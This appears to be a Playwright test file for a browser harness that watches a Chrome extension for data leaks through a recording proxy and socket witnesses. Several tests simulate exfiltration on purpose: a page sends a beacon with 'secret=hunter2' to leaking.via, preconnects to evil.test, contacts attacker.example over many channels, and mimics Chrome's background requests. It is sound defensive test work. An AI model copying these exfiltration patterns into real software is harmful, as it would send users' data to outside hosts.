/**
 * Self-tests of the real-browser harness: fixture sites through the recording proxy, CORS on
 * dynamic routes, every witness channel seeing a control request, the extension's service
 * worker, extension pages, tab ids and the offscreen document over CDP.
 *
 * Tests run in parallel on both workers on purpose: the socket witnesses are shared by the
 * workers, so a control test on one worker must not show up as a hit in the other.
 */
import { BACKGROUND_EXCLUSIONS } from './harness/proxy';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { acceptWebSocket, defaultDistDir, distIsBuilt, expect, placeholderExtensionDir, test, WITNESS_IP, type ProxyRecord } from './harness';

test.describe.configure({ mode: 'parallel' });

// Harness mechanics are tested against the do-nothing placeholder extension, so that a change
// in the real extension cannot make the harness look broken (or clean).
test.use({ extensionPath: placeholderExtensionDir });

test('fixture pages load over http and https through the proxy, with no stray traffic', async ({ openPage, witness, sites }) => {
  const shop = await openPage('shop.test', '/index.html');
  await expect(shop).toHaveTitle('Fixture Shop');
  expect(shop.url()).toBe('http://shop.test/index.html');
  await expect(shop.locator('.promo')).toHaveCount(3);
  await expect(shop.locator('#cart')).toBeVisible();
  await expect(shop.locator('input[type=password]')).toHaveCount(1);
  await expect(shop.locator('html')).toHaveAttribute('data-products-loaded', 'true');

  const news = await openPage('news.test', '/index.html', { https: true });
  await expect(news).toHaveTitle('Fixture News');
  expect(news.url()).toBe('https://news.test/index.html');
  await expect(news.locator('article.article')).toHaveCount(3);
  expect(await news.evaluate(() => window.isSecureContext)).toBe(true);

  const log = witness.log();
  expect(log.some((r) => r.kind === 'http' && r.host === 'shop.test' && r.path === '/index.html' && r.fixture)).toBe(true);
  expect(log.some((r) => r.kind === 'connect' && r.host === 'news.test' && r.port === 443 && r.fixture)).toBe(true);
  expect(sites.requests({ host: 'news.test', path: '/index.html' }).some((r) => r.https)).toBe(true);
  expect(sites.requests({ host: 'shop.test', path: '/api/products.json' }).length).toBeGreaterThan(0);

  // Chromium's own startup requests are excluded deliberately (and only those): nothing else.
  for (const r of witness.ignored()) expect(BACKGROUND_EXCLUSIONS.map((e) => e.host)).toContain(r.host);
  await witness.expectNoHits();
});

test('cross-origin fetch from shop.test to api.test follows CORS', async ({ openPage, sites, witness }) => {
  const origin = sites.origin('shop.test');
  sites.route('api.test', '/cors/allowed', (req) => {
    const cors = {
      'access-control-allow-origin': origin,
      'access-control-allow-methods': 'GET, PUT',
      'access-control-allow-headers': 'x-remixlet-test',
      vary: 'origin',
    };
    if (req.method === 'OPTIONS') return { status: 204, headers: cors };
    return { json: { ok: true, method: req.method, origin: req.headers.origin ?? null }, headers: cors };
  });
  sites.route('api.test', '/cors/denied', () => ({ json: { secret: 'not for shop.test' } }));
  // A route on a brand-new host makes it a fixture host for this test only.
  sites.route('cdn.test', '/lib.js', () => ({ body: 'window.cdnLoaded = true;', headers: { 'content-type': 'text/javascript' } }));

  const page = await openPage('shop.test', '/index.html');
  const result = await page.evaluate(async () => {
    const allowed = await fetch('http://api.test/cors/allowed').then((r) => r.json() as Promise<unknown>);
    const preflighted = await fetch('http://api.test/cors/allowed', { method: 'PUT', headers: { 'x-remixlet-test': '1' } }).then(
      (r) => r.json() as Promise<unknown>,
    );
    const denied = await fetch('http://api.test/cors/denied').then(
      () => 'readable',
      (e: unknown) => `blocked: ${String(e)}`,
    );
    const s = document.createElement('script');
    s.src = 'http://cdn.test/lib.js';
    await new Promise((resolve, reject) => {
      s.onload = resolve;
      s.onerror = reject;
      document.head.append(s);
    });
    return { allowed, preflighted, denied, cdn: (window as unknown as { cdnLoaded?: boolean }).cdnLoaded };
  });
  expect(result.allowed).toEqual({ ok: true, method: 'GET', origin });
  expect(result.preflighted).toEqual({ ok: true, method: 'PUT', origin });
  expect(result.denied).toMatch(/^blocked: TypeError/);
  expect(result.cdn).toBe(true);
  // The denied request still reached the server (CORS hides the response, not the request).
  expect(sites.requests({ host: 'api.test', path: '/cors/denied' })).toHaveLength(1);
  expect(sites.requests({ host: 'api.test', path: '/cors/allowed' }).map((r) => r.method).sort()).toEqual(['GET', 'OPTIONS', 'PUT']);
  await witness.expectNoHits();
});

test('WebSockets to fixture hosts (ws and wss) are tunnelled to upgrade routes, not recorded as hits', async ({ openPage, sites, witness }) => {
  for (const host of ['shop.test', 'news.test']) {
    sites.routeUpgrade(host, '/echo', (req, socket, _head, ctx) => {
      const ws = acceptWebSocket(req, socket);
      ws.send(`hello from ${ctx.host} over ${ctx.https ? 'wss' : 'ws'}`);
    });
  }
  const page = await openPage('shop.test', '/index.html');
  const plain = await page.evaluate(
    () =>
      new Promise<string>((resolve, reject) => {
        const ws = new WebSocket('ws://shop.test/echo');
        ws.onmessage = (e) => resolve(String(e.data));
        ws.onerror = () => reject(new Error('ws error'));
      }),
  );
  expect(plain).toBe('hello from shop.test over ws');
  const secure = await openPage('news.test', '/index.html', { https: true });
  const tls = await secure.evaluate(
    () =>
      new Promise<string>((resolve, reject) => {
        const ws = new WebSocket('wss://news.test/echo');
        ws.onmessage = (e) => resolve(String(e.data));
        ws.onerror = () => reject(new Error('wss error'));
      }),
  );
  expect(tls).toBe('hello from news.test over wss');
  expect(sites.requests({ path: '/echo' }).map((r) => `${r.host} ${r.status}`).sort()).toEqual(['news.test 101', 'shop.test 101']);
  await witness.expectNoHits({ settleMs: 200 });
});

test('witness.control is recorded on every channel: http, https CONNECT, ws, UDP STUN, TCP TURN, direct TCP', async ({
  openPage,
  witness,
}) => {
  const page = await openPage('shop.test', '/index.html');
  const r = await witness.control(page);

  expect(r.http[0]).toMatchObject({ channel: 'http', host: 'attacker.example', method: 'GET', initiator: 'http://shop.test/' });
  expect(r.https.map((h) => h.channel).sort()).toEqual(expect.arrayContaining(['connect', 'https']));
  expect(r.https.find((h) => h.channel === 'https')).toMatchObject({ host: 'leaking.via', port: 443, initiator: 'http://shop.test/' });
  expect(r.ws.find((h) => h.channel === 'ws')).toMatchObject({ host: 'attacker.example', port: 80, method: 'GET' });
  expect(r.stun[0]).toMatchObject({ channel: 'udp', host: WITNESS_IP, port: 3478, tag: witness.tag });
  expect(r.stun[0]?.preview?.startsWith('0001')).toBe(true); // STUN Binding Request
  expect(r.turn.length).toBeGreaterThan(0);
  expect(r.tcp[0]).toMatchObject({ channel: 'tcp', port: 47474, tag: witness.tag });

  expect(await witness.hitsFor('attacker.example')).not.toHaveLength(0);
  await witness.clear();
  await witness.expectNoHits({ settleMs: 300 });
});

test('the UDP witness answers STUN binding requests: a peer connection learns its address from it', async ({ openPage, witness }) => {
  // Answered, a request is not resent for long; a request resent after its socket closed cannot be attributed
  // and would show up in the other worker's test. How soon the answer comes is not this test's question.
  const page = await openPage('shop.test', '/index.html');
  const state = await page.evaluate(async (url) => {
    const pc = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    pc.createDataChannel('probe');
    const srflx = new Promise<string>((resolve) => {
      pc.onicecandidate = (e) => {
        if (e.candidate?.type === 'srflx') resolve(e.candidate.address ?? '');
        // The end of gathering with no server-reflexive candidate: the witness never answered.
        if (e.candidate === null) resolve('none');
      };
    });
    await pc.setLocalDescription(await pc.createOffer());
    // Open until the witness has attributed the request: a closed socket can no longer be traced to this browser.
    (window as unknown as { probe: RTCPeerConnection }).probe = pc;
    return srflx;
  }, witness.urls.stun);
  let sent: Awaited<ReturnType<typeof witness.hits>> = [];
  await expect.poll(async () => (sent = (await witness.hits()).filter((h) => h.channel === 'udp' && h.port === 3478 && h.tag === witness.tag)).length).toBeGreaterThan(0);
  await page.evaluate(() => (window as unknown as { probe: RTCPeerConnection }).probe.close());
  // The address the witness saw the request come from, handed back in its answer.
  expect(sent.map((h) => h.from?.address)).toContain(state);
});

test('a hostile page on a fixture host is caught on an unusual channel (preconnect, beacon, IP literal)', async ({ openPage, witness }) => {
  const page = await openPage('other.test', '/index.html');
  await page.evaluate(() => {
    const l = document.createElement('link');
    l.rel = 'preconnect';
    l.href = 'https://evil.test';
    document.head.append(l);
    navigator.sendBeacon('http://leaking.via/beacon', 'secret=hunter2');
    void fetch('http://127.0.0.1:8123/ip-literal', { mode: 'no-cors' }).catch(() => undefined);
  });
  const hits = await witness.waitForHits(
    (h) =>
      h.some((x) => x.host === 'evil.test' && x.channel === 'connect') &&
      h.some((x) => x.host === 'leaking.via' && x.path === '/beacon' && x.method === 'POST') &&
      h.some((x) => x.host === '127.0.0.1' && x.path === '/ip-literal'),
  );
  expect(hits.find((x) => x.path === '/beacon')?.preview).toBe('secret=hunter2');
});

// The test browser is the person's browser: hyperlink auditing is on, as in stock Chrome (the harness runs the
// real binary, not Debian's wrapper script, and passes no switch that turns it off). A plain page, no
// extension involved, a link with a third-party ping, a click by Playwright: the witness records the ping.
test("a plain page's <a ping> click reaches the witness: hyperlink auditing is on", async ({ openPage, sites, witness }) => {
  sites.route('other.test', '/ping-control.html', () => ({
    headers: { 'content-type': 'text/html; charset=utf-8' },
    body: '<!doctype html><title>Ping control</title><a id="pinging" href="/next" ping="http://pings.example/ping?from=control">next</a>',
  }));
  sites.route('other.test', '/next', () => ({ headers: { 'content-type': 'text/html; charset=utf-8' }, body: '<!doctype html><title>Next</title><p id="next">next</p>' }));
  const page = await openPage('other.test', '/ping-control.html');
  await page.locator('#pinging').click();
  await expect(page.locator('#next')).toBeVisible();
  const hits = await witness.waitForHits((h) => h.some((x) => x.host === 'pings.example' && x.path === '/ping?from=control' && x.method === 'POST'), {
    message: 'the click sent no ping: hyperlink auditing is off in the test browser',
    timeout: 15_000,
  });
  const ping = hits.find((x) => x.host === 'pings.example')!;
  // What Chromium sends for <a ping>: a POST of "PING", typed text/ping, with the page's Origin (so no
  // background-traffic exclusion, which needs Google's Origin or none, can ever match one).
  expect(ping.preview).toBe('PING');
  expect((ping.record as ProxyRecord).headers['content-type']).toBe('text/ping');
  expect((ping.record as ProxyRecord).headers.origin).toBe('http://other.test');
  expect(witness.ignored().filter((r) => r.host === 'pings.example')).toEqual([]);
});

// The background exclusions match the browser's own requests only: a page that copies each one (same method,
// address and body, and for the dictionary no Referer either) is caught, because what the page cannot copy is
// what the browser fills in (Origin on a POST, Sec-Fetch-Site "cross-site").
test('a page copying each excluded background request is caught: the exclusions cannot hide a page', async ({ openPage, witness }) => {
  const page = await openPage('other.test', '/index.html');
  await page.evaluate(() => {
    const dictionary = 'https://redirector.gvt1.com/edgedl/chrome/dict/en-us-10-1.bdic';
    const checkin = String.fromCharCode(0x10, 0x00, 0x1a) + '*1-' + 'ab'.repeat(20) + '"';
    const sends: Array<[string, RequestInit]> = [
      [dictionary, { mode: 'no-cors', referrerPolicy: 'no-referrer' }],
      ['https://android.clients.google.com/checkin', { method: 'POST', mode: 'no-cors', body: checkin }],
      [
        'https://update.googleapis.com/service/update2/json?cup2key=1:2',
        { method: 'POST', mode: 'no-cors', body: '{"request":{"apps":[{"appid":"ceofaddefefcbblgcgnibnonglccbfja"}],"x":1}}' },
      ],
      ['https://accounts.google.com/ListAccounts?gpsia=1&source=ChromiumBrowser&json=standard', { method: 'POST', mode: 'no-cors' }],
    ];
    for (const [url, init] of sends) void fetch(url, init).catch(() => undefined);
    new Image().src = dictionary;
  });
  const wanted = (h: Awaited<ReturnType<typeof witness.hits>>) => [
    h.filter((x) => x.host === 'redirector.gvt1.com' && x.path === '/edgedl/chrome/dict/en-us-10-1.bdic').length >= 2,
    h.some((x) => x.host === 'android.clients.google.com' && x.path === '/checkin' && x.method === 'POST'),
    h.some((x) => x.host === 'update.googleapis.com' && x.method === 'POST'),
    h.some((x) => x.host === 'accounts.google.com' && x.path?.startsWith('/ListAccounts') && x.method === 'POST'),
  ];
  const hits = await witness.waitForHits((h) => wanted(h).every(Boolean), { message: 'a copy of a background request was not a hit' });
  const dictionaryFetch = hits.find((x) => x.host === 'redirector.gvt1.com' && (x.record as ProxyRecord).headers['sec-fetch-dest'] === 'empty');
  expect((dictionaryFetch?.record as ProxyRecord).headers.referer).toBeUndefined();
  expect((dictionaryFetch?.record as ProxyRecord).headers['sec-fetch-site']).toBe('cross-site');
});

test('the offscreen document is reachable over CDP, and tabIdOf finds a tab', async ({
  serviceWorker,
  evaluateInOffscreen,
  cdp,
  openPage,
  tabIdOf,
  witness,
}) => {
  await serviceWorker.evaluate(() =>
    chrome.offscreen.createDocument({
      url: 'offscreen.html',
      reasons: ['DOM_PARSER' as chrome.offscreen.Reason],
      justification: 'harness self-test',
    }),
  );
  expect(await evaluateInOffscreen<string>('globalThis.placeholderOffscreen')).toBe('offscreen-ok');
  expect(await evaluateInOffscreen<string>('location.pathname')).toBe('/offscreen.html');
  expect(await evaluateInOffscreen<number>('new Promise((r) => setTimeout(() => r(42), 10))')).toBe(42);
  await expect(evaluateInOffscreen('(() => { throw new Error("boom") })()')).rejects.toThrow(/boom/);
  const target = await cdp.findOffscreenTarget();
  expect(target.url).toMatch(/^chrome-extension:\/\/[a-p]{32}\/offscreen\.html$/);

  const shop = await openPage('shop.test', '/index.html');
  const news = await openPage('news.test', '/index.html');
  const shopId = await tabIdOf(shop);
  const newsId = await tabIdOf(news);
  expect(shopId).not.toBe(newsId);
  expect(await serviceWorker.evaluate(async (id) => (await chrome.tabs.get(id)).url, shopId)).toBe('http://shop.test/index.html');
  await witness.expectNoHits({ settleMs: 0 });
});

test('spa.test redraws every 100 ms and navigates with pushState', async ({ openPage }) => {
  const page = await openPage('spa.test', '/');
  const first = Number(await page.locator('#feed').getAttribute('data-tick'));
  await expect.poll(async () => Number(await page.locator('#feed').getAttribute('data-tick'))).toBeGreaterThan(first + 2);
  await page.locator('a[data-route="/inbox"]').click();
  await expect(page).toHaveURL('http://spa.test/inbox');
  await expect(page.locator('#view-title')).toHaveText('Inbox');
  await page.reload();
  await expect(page.locator('#view-title')).toHaveText('Inbox');
  await expect(page.locator('#feed li')).toHaveCount(5);
});

test.describe('the extension under test', () => {
  // The built extension when dist/ exists (the real suite always uses it); the placeholder otherwise.
  const useDist = distIsBuilt();
  test.use({ extensionPath: useDist ? defaultDistDir : placeholderExtensionDir });

  test('its service worker is found and an extension page opens', async ({ serviceWorker, extensionId, openExtensionPage, extensionPath }) => {
    test.info().annotations.push({ type: 'extension', description: extensionPath });
    expect(extensionId).toMatch(/^[a-p]{32}$/);
    expect(serviceWorker.url()).toMatch(new RegExp(`^chrome-extension://${extensionId}/`));
    expect(await serviceWorker.evaluate(() => chrome.runtime.getManifest().manifest_version)).toBe(3);

    const manifest = JSON.parse(readFileSync(path.join(extensionPath, 'manifest.json'), 'utf8')) as {
      side_panel?: { default_path?: string };
      action?: { default_popup?: string };
      options_page?: string;
      options_ui?: { page?: string };
    };
    const pagePath =
      manifest.side_panel?.default_path ?? manifest.action?.default_popup ?? manifest.options_ui?.page ?? manifest.options_page ?? 'page.html';
    const page = await openExtensionPage(pagePath);
    expect(page.url()).toBe(`chrome-extension://${extensionId}/${pagePath}`);
    expect(await page.evaluate(() => typeof chrome.runtime.id)).toBe('string');
  });
});
